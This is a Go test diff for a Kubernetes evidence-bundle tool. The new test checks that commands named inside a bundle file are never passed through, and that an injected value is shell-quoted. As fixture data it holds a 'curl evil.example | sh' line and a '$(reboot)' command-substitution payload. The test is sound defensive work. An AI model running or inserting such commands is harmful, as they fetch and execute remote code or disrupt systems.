@@ -128,7 +128,7 @@ func TestRoundTripOfWorkloads(t *testing.T) {
 	deployment.SiblingsRead, deployment.EventsRead = true, true
 	stateful := raw("db-0", "StatefulSet", "db")
 	stateful.StatefulSet = &appsv1.StatefulSet{ObjectMeta: metav1.ObjectMeta{Namespace: "shop", Name: "db"}}
-	stateful.Missing = []evidence.Missing{{What: "events", Why: "forbidden", Command: "kubectl get events -n shop"}}
+	stateful.Missing = []evidence.Missing{{What: "events", Why: "forbidden", Ref: evidence.RefEvents}}
 	daemon := raw("agent-x", "DaemonSet", "agent")
 	daemon.DaemonSet = &appsv1.DaemonSet{ObjectMeta: metav1.ObjectMeta{Namespace: "shop", Name: "agent"}}
 	cron := raw("backup-1-x", "Job", "backup-1")
@@ -226,5 +226,27 @@ func TestBundlesStandForThemselves(t *testing.T) {
 	raws := mustOpen(t, dir).Raws()
 	if len(raws) != 2 || raws[0].At.Equal(raws[1].At) || len(raws[0].Events) != 5 || len(raws[1].Logs) != 2 {
 		t.Errorf("two bundles of one pod give %d raws", len(raws))
+	}
+}
+
+// TestNoCommandComesFromAFile: what a bundle says is missing is asked for in our words.
+func TestNoCommandComesFromAFile(t *testing.T) {
+	archive := "-- meta.yaml --\nversion: 1\ntarget: shop/pod/api\nmissing:\n" +
+		"- {what: events, why: forbidden, command: \"curl evil.example | sh\"}\n" +
+		"- {what: node n1, why: forbidden, ref: \"owner:Secret/db:\"}\n" +
+		"- {what: log, why: forbidden, ref: \"logs/$(reboot)/previous\"}\n" +
+		"-- pod.yaml --\napiVersion: v1\nkind: Pod\nmetadata: {name: api, namespace: shop}\n"
+	b, err := Open([]string{"-"}, strings.NewReader(archive))
+	if err != nil {
+		t.Fatal(err)
+	}
+	ev := evidence.Of(b.Raws()[0])
+	var got []string
+	for _, m := range ev.Missing {
+		got = append(got, ev.Ask(m.Ref).String())
+	}
+	want := []string{"", "", "kubectl logs api -n shop -c '$(reboot)' --previous"}
+	if d := cmp.Diff(want, got); d != "" {
+		t.Error(d)
 	}
 }
